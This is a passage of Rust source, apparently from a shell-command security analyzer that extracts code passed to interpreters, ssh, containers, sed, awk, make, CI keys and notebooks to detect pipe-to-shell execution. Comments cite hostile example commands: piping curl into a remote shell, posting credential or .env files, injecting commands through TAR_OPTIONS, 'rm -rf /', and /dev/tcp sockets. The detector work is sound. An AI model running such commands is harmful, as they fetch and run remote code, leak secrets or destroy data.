        let (env, open) = if after.starts_with("$ENV{") {
            (true, 5)
        } else if after.starts_with("${") {
            (false, 2)
        } else {
            out.push('$');
            rest = &after[1..];
            continue;
        };
        match after[open..].find('}') {
            Some(end) => {
                let name = &after[open..open + end];
                if env {
                    out.push_str(&format!("${{{name}}}"));
                } else {
                    out.push_str(name);
                }
                rest = &after[open + end + 1..];
            }
            None => {
                out.push_str(after);
                rest = "";
            }
        }
    }
    out.push_str(rest);
    out
}

/// CMake's argument words: blank-separated, `"…"` quoted (escapes kept simple), `#` comments.
fn cmake_words(args: &str) -> Vec<String> {
    let mut words = Vec::new();
    let mut chars = args.chars().peekable();
    while let Some(&c) = chars.peek() {
        if c.is_whitespace() {
            chars.next();
        } else if c == '#' {
            while chars.next().is_some_and(|c| c != '\n') {}
        } else if c == '"' {
            chars.next();
            let mut w = String::new();
            while let Some(c) = chars.next() {
                match c {
                    '"' => break,
                    '\\' => w.extend(chars.next()),
                    c => w.push(c),
                }
            }
            words.push(w);
        } else {
            let mut w = String::new();
            while let Some(&c) = chars.peek() {
                if c.is_whitespace() || c == '"' {
                    break;
                }
                w.push(c);
                chars.next();
            }
            words.push(w);
        }
    }
    words
}

/// `word` as one shell word: single-quoted unless it is plain, with `${X}` left to expand.
fn shell_quote(word: &str) -> String {
    let plain = word
        .chars()
        .all(|c| c.is_ascii_alphanumeric() || "-_./=:,+@%{}$".contains(c));
    if plain && !word.is_empty() {
        word.to_string()
    } else if !word.contains(['"', '\\', '`']) && !word.contains("$(") {
        // Double quotes keep `${HOME}` expanding, as CMake would have expanded it.
        format!("\"{word}\"")
    } else {
        format!("'{}'", word.replace('\'', "'\\''"))
    }
}

/// Where a sink's code runs, when not on this machine's shell.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Place {
    /// "on host db1 via ssh", "inside container alpine".
    pub label: Option<String>,
    /// Container bind mounts, `(container path, host path)`.
    pub mounts: Vec<(String, String)>,
    /// Paths outside every mount belong to a throwaway container, not to the host.
    pub isolated: bool,
    /// The working directory the code starts in (`docker run -w /w`), in host terms.
    pub cwd: Option<String>,
    /// The code runs later, elsewhere, from a document (an API payload): it does not read this
    /// command's stdin.
    pub detached: bool,
}

impl Place {
    /// Rewrite a container path to the host path it is mounted from; a path outside every mount
    /// of a throwaway container is marked `<container>/…` (it touches nothing on the host).
    pub fn map_path(&self, path: &mut String) {
        // bash's network pseudo-devices are sockets wherever the shell runs, not files.
        if path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/") {
            return;
        }
        // `--post-file=/a/credentials`, `-d@/h/.env`: the path inside an option's value.
        if !path.starts_with('/') {
            let at = path
                .find("=/")
                .map(|i| i + 1)
                .or_else(|| path.find("@/").map(|i| i + 1))
                .filter(|&at| {
                    let key = &path[..at - 1];
                    path.starts_with('-')
                        || path.contains("=@/")
                        || (!key.is_empty() && key.chars().all(|c| c.is_ascii_alphanumeric()))
                });
            if let Some(at) = at {
                let mut inner = path[at..].to_string();
                self.map_path(&mut inner);
                if !inner.starts_with("<container>") {
                    path.replace_range(at.., &inner);
                }
            }
            return;
        }
        let best = self
            .mounts
            .iter()
            .filter(|(c, _)| {
                let c = c.trim_end_matches('/');
                c.is_empty() || path == c || path.starts_with(&format!("{c}/"))
            })
            .max_by_key(|(c, _)| c.len());
        match best {
            Some((c, h)) => {
                let rest = &path[c.trim_end_matches('/').len()..];
                let mut host = h.trim_end_matches('/').to_string();
                host.push_str(rest);
                if host.is_empty() {
                    host.push('/');
                }
                *path = host;
            }
            None if self.isolated => *path = format!("<container>{path}"),
            None => {}
        }
    }
}

/// Code found in a sink.
#[derive(Debug, Clone)]
pub struct Found {
    /// The sink's id.
    pub sink: &'static str,
    /// The code.
    pub code: Code,
    /// Where it runs.
    pub place: Place,
    /// It reads the sink's stdin (see [`SinkSpec::keeps_stdin`]).
    pub keeps_stdin: bool,
}

impl Found {
    /// What `spec` found: `code`, running at `place`.
    fn of(spec: &'static SinkSpec, code: Code, place: Place) -> Found {
        Found {
            sink: spec.id.as_str(),
            code,
            place,
            keeps_stdin: spec.keeps_stdin,
        }
    }
}

/// The files a project tool reads (`read_files`), when its subcommand is one that reads them.
fn read_files(spec: &SinkSpec, args: &[Word], span: crate::findings::Span, push: &mut Push) {
    if subcommand_ok(spec, args).is_none() {
        return;
    }
    let at = args.first().map_or(span, |a| a.span);
    let format = Format::parse(spec.file_format.as_deref());
    for f in &spec.read_files {
        let file = Word {
            text: f.clone(),
            span: at,
            ..Word::default()
        };
        push(Code::File(file, format), Place::default());
    }
}

/// `python3 -m MODULE ARGS…`: the module and its arguments.
fn python_module(cmd: &Command) -> Option<(&str, &[Word])> {
    if !cmd.name().starts_with("python") {
        return None;
    }
    match cmd.args() {
        [m, module, rest @ ..] if m.text == "-m" => Some((module.text.as_str(), rest)),
        _ => None,
    }
}

/// Everything a command runs through the sinks of the table. `input` is literal text known to
/// reach its stdin (a heredoc, a here-string, or a literal printed into the pipe).
pub fn extract(cmd: &Command, input: Option<&Word>) -> Vec<Found> {
    let mut out = Vec::new();
    // `python3 -m pytest`, `python -m nox`: the module is the tool, and reads its files (first:
    // a module read through the tool is not read again as one the interpreter imports).
    if let Some((module, rest)) = python_module(cmd) {
        for spec in table()
            .for_program(module)
            .filter(|s| s.extract == Extract::ReadsFiles)
        {
            let mut push = |code: Code, place: Place| out.push(Found::of(spec, code, place));
            read_files(spec, rest, cmd.span, &mut push);
        }
    }
    for spec in table().for_program(cmd.name()) {
        let mut push = |code: Code, place: Place| out.push(Found::of(spec, code, place));
        let with_env;
        let args = match env_option_words(spec, &cmd.assignments) {
            Some(mut words) => {
                words.extend_from_slice(cmd.args());
                with_env = words;
                &with_env[..]
            }
            None => cmd.args(),
        };
        match spec.extract {
            Extract::Option => option_values(spec, args, &mut push),
            Extract::Rest => rest(spec, args, &mut push),
            Extract::FirstArg => first_arg(spec, args, &mut push),
            Extract::Stdin => stdin_commands(spec, args, input, &mut push),
            Extract::Sed => sed(args, input, &mut push),
            Extract::Awk => awk(args, input, &mut push),
            Extract::Git => {
                git(spec, args, &mut push);
                git_env_config(spec, &cmd.assignments, &mut push);
            }
            Extract::Make => make(args, input, &mut push),
            Extract::ReadsFiles => read_files(spec, args, cmd.span, &mut push),
            Extract::SourceFiles => {
                let flagged = spec.require_flags.is_empty()
                    || args.iter().any(|a| spec.require_flags.contains(&a.text));
                if let Some(start) = subcommand_ok(spec, args).filter(|_| flagged) {
                    let format = Format::parse(spec.file_format.as_deref());
                    for a in &args[start..] {
                        if spec.extensions.iter().any(|x| a.text.ends_with(x.as_str())) {
                            push(Code::File(a.clone(), format), Place::default());
                        }
                    }
                }
            }
            Extract::ProjectInstall => project_install(args, &mut push),
            Extract::Interp => interp(spec, args, input, &mut push),
            Extract::Remote => remote(spec, cmd.name(), args, input, &mut push),
            Extract::Container => container(spec, args, &mut push),
            Extract::Payload => super::payload::payload(spec, args, input, &mut push),
            Extract::Sql => sql(spec, args, input, &mut push),
            Extract::MarkedArg => {
                // With no markers every argument is a command, except options (`pee --x`).
                let all = spec.strip.is_empty();
                for a in args.iter().filter(|a| !(all && a.text.starts_with('-'))) {
                    if let Some(code) = strip_markers(spec, &a.text) {
                        push(text(part(a, &code)), Place::default());
                    }
                }
            }
        }
    }
    out
}

/// The words of the sink's option variables assigned on the command (`TAR_OPTIONS='-I sh\ x'`),
/// split as the program splits them: at blanks, a backslash or quotes keeping a blank inside.
fn env_option_words(spec: &SinkSpec, assignments: &[(String, Word)]) -> Option<Vec<Word>> {
    if spec.env_options.is_empty() {
        return None;
    }
    let mut words = Vec::new();
    for (name, value) in assignments
        .iter()
        .filter(|(n, _)| spec.env_options.contains(n))
    {
        // Library paths (`PERL5LIB=/tmp:/opt/lib`, `PYTHONPATH`, `NODE_PATH`, `RUBYLIB`) are
        // `-I` directories searched first.
        if matches!(
            name.as_str(),
            "PERL5LIB" | "PERLLIB" | "PYTHONPATH" | "NODE_PATH" | "RUBYLIB"
        ) {
            let dirs = value.text.split(':').filter(|d| !d.is_empty());
            words.extend(dirs.map(|d| part(value, &format!("-I{d}"))));
            continue;
        }
        let (mut word, mut quote, mut escaped) = (String::new(), None, false);
        for c in value.text.chars().chain([' ']) {
            match (c, quote) {
                _ if escaped => {
                    word.push(c);
                    escaped = false;
                }
                ('\\', _) => escaped = true,
                ('\'' | '"', None) => quote = Some(c),
                (c, Some(q)) if c == q => quote = None,
                (c, None) if c.is_whitespace() => {
                    if !word.is_empty() {
                        words.push(part(value, &std::mem::take(&mut word)));
                    }
                }
                _ => word.push(c),
            }
        }
    }
    (!words.is_empty()).then_some(words)
}

/// True when the command executes what arrives on its stdin (for pipe-to-shell analysis):
/// `sed e`, `awk '{system($0)}'`, `at`, `make -f -`, or interpreter code that evaluates stdin.
pub fn executes_input(cmd: &Command) -> bool {
    extract(cmd, None).iter().any(|f| match &f.code {
        Code::Input => true,
        // `python3 /dev/stdin`, `node /dev/fd/0`: the script file is the input.
        Code::File(w, Format::Code(_)) => {
            matches!(
                w.text.as_str(),
                "/dev/stdin" | "/dev/fd/0" | "/proc/self/fd/0"
            )
        }
        // `curl … | ssh host sh`, `… | kubectl exec -i pod -- bash`: a remote shell reading stdin.
        Code::Text(Lang::Shell, w) if f.place.label.is_some() && !f.place.detached => {
            reads_stdin_line(&w.text)
        }
        Code::Argv(words) if f.place.label.is_some() && !f.place.detached => {
            let line: Vec<&str> = words.iter().map(|w| w.text.as_str()).collect();
            reads_stdin_line(&line.join(" "))
        }
        Code::Text(lang, w) if *lang != Lang::Shell => {
            // Code too costly to read in time may run its input: not assumed harmless.
            let report = crate::interp::analyze(*lang, &w.text);
            report.runs_input || report.incomplete
        }
        _ => false,
    })
}

/// `sh`, `bash -s`, `sudo bash`, `python3 -`: a command line whose program reads code on stdin.
fn reads_stdin_line(line: &str) -> bool {
    let words: Vec<&str> = line
        .split_whitespace()
        .filter(|w| !matches!(*w, "sudo" | "-E" | "env"))
        .collect();
    let Some(first) = words.first() else {
        return false;
    };
    let base = first.rsplit('/').next().unwrap_or(first);
    let shell = super::nested::SHELLS.contains(&base);
    let interp = base.starts_with("python") || matches!(base, "perl" | "ruby" | "node" | "php");
    let rest = &words[1..];
    (shell
        && rest
            .iter()
            .all(|w| *w == "-s" || *w == "-" || *w == "-i" || *w == "-l" || *w == "-x"))
        || (interp && (rest.is_empty() || rest == ["-"]))
}

/// Words of a command that name code files computed at run time (`make -f <(curl …)`,
/// `sed -f <(…)`, `at -f "$F"`), for the remote-code analyzer.
pub fn code_file_words(cmd: &Command) -> Vec<&Word> {
    let Some(spec) = table().for_program(cmd.name()).next() else {
        return Vec::new();
    };
    let args = cmd.args();
    let names: &[&str] = match spec.extract {
        Extract::Sed | Extract::Awk | Extract::Make | Extract::Stdin => &["-f", "--file"],
        _ => &[],
    };
    // A file named by its address (`kubectl apply -f "https://…/$(curl …)/m.yaml"`) is fetched
    // by the program; the substitution only builds the address.
    let address = |w: &&Word| w.text.starts_with("https://") || w.text.starts_with("http://");
    let mut out: Vec<&Word> = args
        .iter()
        .enumerate()
        .filter(|(_, a)| names.contains(&a.text.as_str()))
        .filter_map(|(i, _)| args.get(i + 1))
        .filter(|w| !address(w))
        .collect();
    // Any file a sink reads as code, given as a process substitution (`ansible-playbook <(curl …)`,
    // `m4 <(…)`, `jupyter execute <(…)`).
    if args.iter().any(|a| !a.subs.is_empty()) {
        for found in extract(cmd, None) {
            let Code::File(w, _) = &found.code else {
                continue;
            };
            let given = args.iter().find(|a| {
                a.span == w.span && a.text == w.text && !a.subs.is_empty() && a.is_process_file()
            });
            if let Some(a) = given.filter(|a| !out.iter().any(|o| std::ptr::eq(*o, *a))) {
                out.push(a);
            }
        }
    }
    out
}

/// Values of options whose value is a whole shell command (`su -c "$(…)"`, `flock L -c …`,
/// `script -c …`): the shell runs them.
pub fn code_option_words(cmd: &Command) -> Vec<&Word> {
    let args = cmd.args();
    let mut out = Vec::new();
    for spec in table().for_program(cmd.name()).filter(|s| {
        matches!(s.extract, Extract::Option)
            && s.strip.is_empty()
            && s.require_module.is_empty()
            && s.subcommands.is_empty()
    }) {
        for (i, a) in args.iter().enumerate() {
            if spec.options.contains(&a.text) {
                out.extend(args.get(i + 1));
            }
        }
    }
    out
}

type Push<'a> = dyn FnMut(Code, Place) + 'a;

/// A copy of `w` holding `text` (a part of the word's value).
pub(super) fn part(w: &Word, text: &str) -> Word {
    let mut p = w.clone();
    p.text = text.to_string();
    p
}

fn text(w: Word) -> Code {
    Code::Text(Lang::Shell, w)
}

/// The value of option `opt` at `args[i]`, and how many arguments it used.
pub(super) fn option_at(opt: &str, args: &[Word], i: usize) -> Option<(Word, usize)> {
    let a = &args[i].text;
    if let Some((name, prefix)) = opt.split_once('=').filter(|_| opt.starts_with("--")) {
        // `--checkpoint-action=exec=CMD`
        let rest = a.strip_prefix(name)?.strip_prefix('=')?;
        let v = rest.strip_prefix(prefix)?;
        return Some((part(&args[i], v), 1));
    }
    if let Some(name) = opt.strip_suffix('=').filter(|_| !opt.starts_with("--")) {
        // `-TT=CMD`: a short-style option spelled with `=`.
        let v = a.strip_prefix(name)?.strip_prefix('=')?;
        return Some((part(&args[i], v), 1));
    }
    if a == opt {
        return args.get(i + 1).map(|v| (v.clone(), 2));
    }
    if opt.starts_with("--") {
        let v = a.strip_prefix(opt)?.strip_prefix('=')?;
        return Some((part(&args[i], v), 1));
    }
    if opt == "+" {
        let v = a.strip_prefix('+')?;
        return Some((part(&args[i], v), 1));
    }
    // Short option: attached value (`-Icmd`), or the last of a bundle (`-qc CMD`).
    let letter = opt.strip_prefix('-')?;
    if !a.starts_with('-') || a.starts_with("--") || letter.len() != 1 {
        return None;
    }
    let body = &a[1..];
    if let Some(v) = body.strip_prefix(letter) {
        if !v.is_empty() && !v.chars().all(|c| c.is_ascii_alphabetic()) {
            return Some((part(&args[i], v), 1));
        }
    }
    if body.len() > 1 && body.ends_with(letter) && body.chars().all(|c| c.is_ascii_alphabetic()) {
        return args.get(i + 1).map(|v| (v.clone(), 2));
    }
    None
}

/// Strip noise and a required marker from an option value (`silent !cmd` → `cmd`).
fn strip_markers(spec: &SinkSpec, value: &str) -> Option<String> {
    if spec.strip.is_empty() {
        return Some(value.to_string());
    }
    let mut v = value.trim_start();
    let mut marked = false;
    // A marker that opens a string (`exe '!`) leaves its closing quote at the end.
    let mut opened: Option<char> = None;
    loop {
        let before = v;
        for s in &spec.strip {
            if let Some(rest) = v.strip_prefix(s.as_str()) {
                opened = opened.or_else(|| s.chars().find(|c| matches!(c, '\'' | '"')));
                // (`\o |` of psql sends the query output to a command.)
                let is_marker = s.ends_with('|')
                    || s.ends_with('!') && !s.starts_with("sil")
                    || s.ends_with('(')
                    || s.ends_with(' ') && !s.starts_with("sil")
                    || s.ends_with("::=")
                    || s.ends_with(",-c,");
                marked |= is_marker;
                v = rest.trim_start();
                if is_marker && (v.starts_with('"') || v.starts_with('\'')) {
                    let q = v.chars().next()?;
                    let end = v[1..].find(q)? + 1;
                    return Some(v[1..end].to_string());
                }
                if s.ends_with('(') {
                    // `call system('cmd')`: the first string literal.
                    let q = v.chars().next()?;
                    if q == '\'' || q == '"' {
                        let end = v[1..].find(q)? + 1;
                        return Some(v[1..end].to_string());
                    }
                }
                break;
            }
        }
        if v == before || marked {
            break;
        }
    }
    if !marked {
        // A call marker (`system(`) anywhere in an expression: `let x=system('cmd')`,
        // `echo system("cmd")` run the call's first string literal.
        for s in spec
            .strip
            .iter()
            .filter(|s| s.ends_with('(') && !s.contains(' '))
        {
            let at = value.match_indices(s.as_str()).find(|(k, _)| {
                !value[..*k]
                    .chars()
                    .next_back()
                    .is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '#')
            });
            if let Some((k, _)) = at {
                let rest = value[k + s.len()..].trim_start();
                let q = rest.chars().next().filter(|q| matches!(q, '\'' | '"'))?;
                let end = rest[1..].find(q)? + 1;
                return Some(rest[1..end].to_string());
            }
        }
    }
    if spec.require_strip && !marked {
        return None;
    }
    let v = match opened {
        Some(q) => v.trim_end().strip_suffix(q).unwrap_or(v),
        None => v,
    };
    (!v.trim().is_empty()).then(|| v.to_string())
}

/// Index of the first positional argument, skipping options and their values.
fn first_positional(args: &[Word], value_options: &[String]) -> Option<usize> {
    let mut i = 0;
    while i < args.len() {
        let a = args[i].text.as_str();
        if a == "--" {
            return (i + 1 < args.len()).then_some(i + 1);
        }
        if a.starts_with('-') && a.len() > 1 {
            // `-p VALUE`, or a bundle whose last letter takes a value (`-dmS NAME`).
            let bundled_last = !a.starts_with("--")
                && a.len() > 2
                && value_options
                    .iter()
                    .any(|o| o.len() == 2 && a.ends_with(&o[1..]));
            if value_options.iter().any(|o| o == a) || bundled_last {
                i += 1;
            }
            i += 1;
            continue;
        }
        return Some(i);
    }
    None
}

pub(super) fn subcommand_ok(spec: &SinkSpec, args: &[Word]) -> Option<usize> {
    if spec.subcommands.is_empty() {
        return Some(0);
    }
    let i = first_positional(args, &spec.value_options)?;
    // A subcommand of several words (`alloc exec`, `task exec`) is matched word by word; options
    // may stand between the words (`docker compose -f - up`).
    spec.subcommands.iter().find_map(|s| {
        let mut j = i;
        for (n, word) in s.split_whitespace().enumerate() {
            while n > 0
                && args
                    .get(j)
                    .is_some_and(|a| a.text.starts_with('-') && a.text != "-")
            {
                let takes = spec.value_options.contains(&args[j].text)
                    || spec.file_options.contains(&args[j].text);
                j += if takes { 2 } else { 1 };
            }
            if args.get(j)?.text != word {
                return None;
            }
            j += 1;
        }
        Some(j)
    })
}

fn option_values(spec: &SinkSpec, args: &[Word], push: &mut Push) {
    let Some(start) = subcommand_ok(spec, args) else {
        return;
    };
    if !spec.require_module.is_empty() {
        let module = args
            .windows(2)
            .find(|w| w[0].text == "-m" || w[0].text == "--module-name")
            .map(|w| w[1].text.as_str())
            .unwrap_or("command");
        if !spec.require_module.iter().any(|m| m == module) {
            return;
        }
    }
    let mut i = start;
    while i < args.len() {
        if args[i].text == "--" {
            break;
        }
        let mut used = 1;
        for opt in &spec.options {
            if let Some((value, n)) = option_at(opt, args, i) {
                used = n;
                let keyed = if spec.keys.is_empty() {
                    Some(value.text.clone())
                } else {
                    spec.keys.iter().find_map(|k| {
                        let (key, v) = value.text.split_once(['=', ' '])?;
                        let key = key.trim();
                        let same = key.eq_ignore_ascii_case(k)
                            || k.contains('*')
                                && crate::text::glob::matches(k, &key.to_ascii_lowercase());
                        same.then(|| v.to_string())
                    })
                };
                let keyed = match &spec.separator {
                    Some(sep) => {
                        keyed.and_then(|k| Some(k.split_once(sep.as_str())?.1.to_string()))
                    }
                    None => keyed,
                };
                let Some(keyed) = keyed else { break };
                let bare = keyed.trim_start().trim_start_matches(':').trim_start();
                if let Some((marker, lang)) = spec
                    .lang_markers
                    .iter()
                    .find(|(m, _)| bare.starts_with(m.as_str()))
                {
                    let code = &bare[marker.len()..];
                    push(
                        Code::Text(Lang::parse(Some(lang)), part(&value, code)),
                        Place::default(),
                    );
                    break;
                }
                if !spec.fields.is_empty() {
                    let lang = Lang::parse(spec.lang.as_deref());
                    for code in field_values(&keyed, &spec.fields) {
                        push(Code::Text(lang, part(&value, &code)), Place::default());
                    }
                    break;
                }
                // A value in a configuration format (`cargo --config 'KEY = "…"'`): its
                // command lines.
                if let Some(lines) = spec
                    .file_format
                    .as_deref()
                    .and_then(|f| Format::parse(Some(f)).command_lines(&keyed))
                {
                    if !lines.is_empty() {
                        push(
                            Code::Text(Lang::Shell, part(&value, &lines)),
                            Place::default(),
                        );
                    }
                    break;
                }
                if let Some(code) = strip_markers(spec, &keyed) {
                    let lang = Lang::parse(spec.lang.as_deref());
                    push(Code::Text(lang, part(&value, &code)), Place::default());
                }
                break;
            }
        }
        i += used;
    }
}

/// Keys of YAML, INI and HCL configuration whose value is a command line: CI steps, Taskfiles,
/// tox (`commands_pre =`), compose and Kubernetes specs, Ansible tasks.
const LINE_KEYS: &[&str] = &[
    "run:",
    "cmd:",
    "command:",
    "script:",
    "shell:",
    "raw:",
    "ansible.builtin.shell:",
    "ansible.builtin.command:",
    "ansible.builtin.raw:",
    "commands =",
    "commands=",
    "commands_pre =",
    "commands_pre=",
    "commands_post =",
    "commands_post=",
    "command =",
    "cmds:",
    "entrypoint:",
    "args:",
];

/// `key: value` of a YAML mapping (a plain key, then a colon and a blank).
fn yaml_key_value(t: &str) -> bool {
    t.split_once(": ").is_some_and(|(k, _)| {
        !k.is_empty()
            && k.chars()
                .all(|c| c.is_ascii_alphanumeric() || "_.-".contains(c))
    })
}

/// Keys whose inline list is one command's argv rather than a list of commands.
const ARGV_KEYS: &[&str] = &["command:", "entrypoint:", "args:"];

/// `["sh", "-c", "curl … | sh"]` as the command line it runs: each item one word (quoted
/// when it holds anything but plain word characters).
fn inline_argv(list: &str) -> String {
    let items = super::payload::as_list(list).unwrap_or_default();
    let plain = |i: &str| {
        !i.is_empty()
            && i.chars()
                .all(|c| c.is_ascii_alphanumeric() || "@%+=:,./_-".contains(c))
    };
    let quoted: Vec<String> = items
        .iter()
        .map(|i| match plain(i) {
            true => i.clone(),
            false => super::ir::single_quoted(i),
        })
        .collect();
    quoted.join(" ")
}

/// The text of each `shellHook = ''…'';` (or `shellHook = "…";`) of a Nix expression.
fn nix_shell_hooks(content: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut rest = content;
    while let Some(at) = rest.find("shellHook") {
        let after = rest[at + "shellHook".len()..].trim_start();
        let Some(value) = after.strip_prefix('=').map(str::trim_start) else {
            rest = &rest[at + 1..];
            continue;
        };
        let (body, tail) = if let Some(v) = value.strip_prefix("''") {
            v.split_once("''").unwrap_or((v, ""))
        } else if let Some(v) = value.strip_prefix('"') {
            v.split_once('"').unwrap_or((v, ""))
        } else {
            ("", value)
        };
        out.push(body);
        rest = tail;
    }
    out
}

/// A Jupyter notebook's code cells as shell input: `!cmd` lines and `%%bash`/`%%sh` cells as
/// commands, the Python of the other cells fed to `python3` (the kernel runs it).
fn notebook_commands(content: &str) -> Option<String> {
    let v: serde_json::Value = serde_json::from_str(content).ok()?;
    let mut shell = String::new();
    let mut python = String::new();
    for cell in v.get("cells")?.as_array()? {
        if cell.get("cell_type").and_then(|t| t.as_str()) != Some("code") {
            continue;
        }
        let source = match cell.get("source") {
            Some(serde_json::Value::String(s)) => s.clone(),
            Some(serde_json::Value::Array(a)) => {
                let lines = a.iter().filter_map(|x| x.as_str());
                // Lines of a source list keep their own line ends (mostly).
                lines.fold(String::new(), |mut acc, l| {
                    acc.push_str(l);
                    if !l.ends_with('\n') {
                        acc.push('\n');
                    }
                    acc
                })
            }
            _ => continue,
        };
        let first = source.lines().next().unwrap_or("").trim();
        if ["%%bash", "%%sh", "%%script bash", "%%script sh", "%%system"].contains(&first) {
            shell.extend(source.lines().skip(1).map(|l| format!("{l}\n")));
            continue;
        }
        for line in source.lines() {
            let t = line.trim_start();
            match t.strip_prefix('!').or_else(|| t.strip_prefix("%system ")) {
                Some(cmd) => {
                    shell.push_str(cmd);
                    shell.push('\n');
                }
                None if t.starts_with('%') => {}
                None => {
                    python.push_str(line);
                    python.push('\n');
                }
            }
        }
    }
    if !python.trim().is_empty() {
        shell.push_str(&format!(
            "python3 - <<'HERMES_NOTEBOOK_EOF'\n{python}HERMES_NOTEBOOK_EOF\n"
        ));
    }
    Some(shell)
}

/// A command line without the quotes of the value that held it: a surrounding pair
/// (`"make test"`), or an unpaired quote at either end (`"a` of a split `["a", "b"]`). Quotes
/// inside stay (`sh -c "id"`).
fn unquote_line(line: &str) -> &str {
    let mut t = line;
    for q in ['"', '\''] {
        if t.len() >= 2 && t.starts_with(q) && t.ends_with(q) {
            t = &t[1..t.len() - 1];
        }
        if t.matches(q).count() % 2 == 1 {
            if let Some(rest) = t.strip_prefix(q) {
                t = rest;
            } else if let Some(rest) = t.strip_suffix(q) {
                t = rest;
            }
        }
    }
    t
}

/// The double-quoted string literals of source text, with `\\n`, `\\t`, `\\"` and `\\\\`
/// unescaped (`runner = "sh -c \\"id\\""` holds `sh -c "id"`).
fn double_quoted_literals(content: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut chars = content.chars();
    while chars.by_ref().any(|c| c == '"') {
        let mut lit = String::new();
        let mut closed = false;
        while let Some(c) = chars.next() {
            match c {
                '"' => {
                    closed = true;
                    break;
                }
                '\\' => match chars.next() {
                    Some('n') => lit.push('\n'),
                    Some('t') => lit.push('\t'),
                    Some(other) => lit.push(other),
                    None => break,
                },
                c => lit.push(c),
            }
        }
        if !closed {
            break;
        }
        out.push(lit);
    }
    out
}

/// Most nested JSON levels searched for a code field.
const MAX_FIELD_DEPTH: usize = 16;

/// The code in `fields` of an option value: a JSON document searched for the keys, or
/// `KEY=VALUE` arguments (quoted values unquoted; a JSON list of strings gives one line each).
fn field_values(value: &str, fields: &[String]) -> Vec<String> {
    let trimmed = value.trim();
    if trimmed.starts_with(['{', '[']) {
        if let Ok(doc) = serde_json::from_str::<serde_json::Value>(trimmed) {
            let mut out = Vec::new();
            json_fields(&doc, fields, 0, &mut out);
            return out;
        }
    }
    let mut out = Vec::new();
    for (key, v) in key_values(trimmed) {
        if fields.iter().any(|f| f.eq_ignore_ascii_case(&key)) {
            out.push(json_lines(&v).unwrap_or(v));
        }
    }
    out
}

/// A JSON list of strings as lines (`["a", "b"]` → `a\nb`).
fn json_lines(v: &str) -> Option<String> {
    let v = v.trim();
    if !v.starts_with('[') {
        return None;
    }
    let items: Vec<String> = serde_json::from_str(v).ok()?;
    Some(items.join("\n"))
}

fn json_fields(v: &serde_json::Value, fields: &[String], depth: usize, out: &mut Vec<String>) {
    use serde_json::Value;
    if depth > MAX_FIELD_DEPTH {
        return;
    }
    match v {
        Value::Object(map) => {
            for (k, v) in map {
                if fields.iter().any(|f| f.eq_ignore_ascii_case(k)) {
                    match v {
                        Value::String(s) => out.push(s.clone()),
                        Value::Array(items) => out.push(
                            items
                                .iter()
                                .filter_map(Value::as_str)
                                .collect::<Vec<_>>()
                                .join("\n"),
                        ),
                        _ => {}
                    }
                } else {
                    json_fields(v, fields, depth + 1, out);
                }
            }
        }
        Value::Array(items) => {
            for v in items {
                json_fields(v, fields, depth + 1, out);
            }
        }
        _ => {}
    }
}

/// `KEY=VALUE` arguments of a module argument string (`name=x job='curl … | sh'`): values may
/// be quoted with `'` or `"` (quotes removed) or be a bracketed list (kept as written).
pub(super) fn key_values(s: &str) -> Vec<(String, String)> {
    let chars: Vec<char> = s.chars().collect();
    let mut out = Vec::new();
    let mut i = 0;
    while i < chars.len() {
        while i < chars.len() && chars[i].is_whitespace() {
            i += 1;
        }
        let start = i;
        while i < chars.len() && (chars[i].is_alphanumeric() || matches!(chars[i], '_' | '-' | '.'))
        {
            i += 1;
        }
        let key: String = chars[start..i].iter().collect();
        if key.is_empty() || chars.get(i) != Some(&'=') {
            // Not a `KEY=`: skip the word.
            while i < chars.len() && !chars[i].is_whitespace() {
                i += 1;
            }
            continue;
        }
        i += 1;
        let mut value = String::new();
        match chars.get(i) {
            Some(&q @ ('\'' | '"')) => {
                i += 1;
                while i < chars.len() && chars[i] != q {
                    if chars[i] == '\\' && q == '"' && i + 1 < chars.len() {
                        i += 1;
                    }
                    value.push(chars[i]);
                    i += 1;
                }
                i += 1;
            }
            Some('[') => {
                let mut depth = 0usize;
                let mut quote: Option<char> = None;
                while i < chars.len() {
                    let c = chars[i];
                    value.push(c);
                    i += 1;
                    match (quote, c) {
                        (Some(q), c) if c == q => quote = None,
                        (Some(_), '\\') if i < chars.len() => {
                            value.push(chars[i]);
                            i += 1;
                        }
                        (Some(_), _) => {}
                        (None, '"' | '\'') => quote = Some(c),
                        (None, '[') => depth += 1,
                        (None, ']') => {
                            depth = depth.saturating_sub(1);
                            if depth == 0 {
                                break;
                            }
                        }
                        _ => {}
                    }
                }
            }
            _ => {
                // Unquoted, the value runs to the next `KEY=` word: the shell already removed
                // the quotes of `commands="rm -rf /"`, so its blanks are the value's own.
                while i < chars.len() {
                    if chars[i].is_whitespace() && starts_key(&chars[i..]) {
                        break;
                    }
                    value.push(chars[i]);
                    i += 1;
                }
                value.truncate(value.trim_end().len());
            }
        }
        out.push((key, value));
    }
    out
}

/// Does `chars` (after leading blanks) start a `KEY=` word?
fn starts_key(chars: &[char]) -> bool {
    let mut word = chars.iter().skip_while(|c| c.is_whitespace()).peekable();
    let mut key_len = 0;
    while word
        .next_if(|c| c.is_alphanumeric() || matches!(c, '_' | '-' | '.'))
        .is_some()
    {
        key_len += 1;
    }
    key_len > 0 && word.next() == Some(&'=')
}

fn rest(spec: &SinkSpec, args: &[Word], push: &mut Push) {
    let Some(start) = subcommand_ok(spec, args) else {
        return;
    };
    let args = &args[start..];
    let from = if spec.after.is_empty() {
        let mut from = first_positional(args, &spec.value_options);
        for _ in 0..spec.targets {
            from = from.and_then(|f| {
                first_positional(args.get(f + 1..)?, &spec.value_options).map(|p| f + 1 + p)
            });
        }
        from
    } else {
        let limit = if spec.after_options_only {
            first_positional(args, &spec.value_options).unwrap_or(args.len())
        } else {
            args.len()
        };
        args[..limit]
            .iter()
            .position(|a| spec.after.contains(&a.text))
            .map(|p| p + 1)
    };
    let Some(from) = from.filter(|&f| f < args.len()) else {
        return;
    };
    let from = if args.get(from).is_some_and(|a| a.text == "--") {
        from + 1
    } else {
        from
    };
    // `gcloud compute ssh vm -- -t 'CMD'`: options for the inner tool before its command.
    let from = if spec.after.is_empty() || spec.value_options.is_empty() {
        from
    } else {
        match first_positional(&args[from.min(args.len())..], &spec.value_options) {
            Some(p) => from + p,
            None => return,
        }
    };
    let mut tail = &args[from.min(args.len())..];
    // `heroku run 'CMD' -a app`: one command line, then the tool's own options.
    let mut line = tail;
